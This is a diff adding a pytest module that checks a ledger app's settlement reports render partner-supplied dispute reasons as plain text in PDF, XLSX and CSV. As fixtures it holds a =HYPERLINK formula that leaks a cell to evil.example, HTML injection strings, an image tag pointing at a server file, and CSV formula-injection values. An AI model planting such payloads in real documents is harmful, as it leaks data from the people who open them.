@@ -1,0 +1,76 @@
+"""Partner text in the settlement reports is data: never ReportLab markup in the PDF, never a formula in XLSX or CSV."""
+
+import base64
+import csv
+import io
+import re
+import zlib
+from pathlib import Path
+
+import pytest
+import werkzeug
+from openpyxl import load_workbook
+
+from ledger.settlement import reports
+from tests.settlement.test_settlement import GB_AL, books  # noqa: F401 (the fixture)
+
+SERVER_PNG = Path(werkzeug.__file__).parent / "debug" / "shared" / "less.png"  # a file the server can read
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+def _dispute(api, officer, books, reason: str) -> None:  # noqa: F811
+    """AL disputes March's statement with `reason`: it carries into April's open items."""
+    api.post("/api/v1/settlements/2026-03/close", token=officer)
+    doc = api.get(f"/api/v1/settlements/2026-03?agreement={GB_AL}", token=books["AL"]).get_json()["documents"][0]
+    body = {"agreement": GB_AL, "digest": doc["digest"], "accepted": False, "reason": reason,
+            "disputed_lines": [{"line": "accrued", "reason": "see the reason"}]}
+    made = api.post("/api/v1/settlements/2026-03/acknowledgements", json=body, token=books["AL"])
+    assert made.status_code == 201, made.get_json()
+
+
+def _pdf_text(pdf: bytes) -> str:
+    """The PDF's page content: ReportLab writes its streams ASCII85-encoded and deflated."""
+    texts = []
+    for stream in re.findall(rb"stream\r?\n(.*?)endstream", pdf, re.S):
+        try:
+            texts.append(zlib.decompress(base64.a85decode(stream.strip().removesuffix(b"~>"))).decode("latin-1"))
+        except (ValueError, zlib.error):
+            continue  # an image or font stream
+    return "\n".join(texts).replace(") Tj (", "")  # a line's text runs, joined
+
+
+@pytest.mark.parametrize("reason", [
+    "<img src=x onerror=1>",
+    '<a href="http://evil.example/">click</a>',
+    f'<img src="{SERVER_PNG}" width="10" height="10"/>',
+    "fees & <b>charges</b",
+])
+def test_pdf_shows_partner_text_literally(api, officer, books, reason):  # noqa: F811
+    _dispute(api, officer, books, reason)
+    response = api.get("/api/v1/settlements/2026-04/report?format=pdf", token=officer)
+    assert response.status_code == 200, response.get_data(as_text=True)[:300]
+    pdf = response.get_data()
+    assert b"/URI" not in pdf and b"/Subtype /Image" not in pdf  # no live link, no embedded file
+    text = _pdf_text(pdf)
+    assert all(word in text for word in reason.split())  # shown as the text it is (lines wrap between words)
+
+
+def test_xlsx_stores_a_formula_looking_reason_as_text(api, officer, books):  # noqa: F811
+    _dispute(api, officer, books, HYPERLINK)
+    response = api.get("/api/v1/settlements/2026-04/report?format=xlsx", token=officer)
+    book = load_workbook(io.BytesIO(response.get_data()))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value == HYPERLINK]
+    assert cells, "the reason is in the report"
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
+    assert not [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+
+
+def test_csv_neutralises_formula_starts_but_keeps_numbers():
+    line = {"agreement_id": 7, "reference": "=1+1", "payer": "@SUM(A1)", "payee": "+AL", "currency": "\tGBP",
+            "opening": "-500.00", "accrued": "12.50", "adjustments": "-1", "invoiced": "0", "approved": "0",
+            "paid": "0", "closing": "-488.50"}
+    view = {"status": "open", "statement": {"period": "2026-04", "agreements": [line], "open_items": {}}}
+    rows = list(csv.DictReader(io.StringIO(reports.to_csv(view).decode())))
+    assert (rows[0]["reference"], rows[0]["payer"], rows[0]["payee"], rows[0]["currency"]) == \
+        ("'=1+1", "'@SUM(A1)", "'+AL", "'\tGBP")
+    assert (rows[0]["opening"], rows[0]["adjustments"], rows[0]["closing"]) == ("-500.00", "-1", "-488.50")
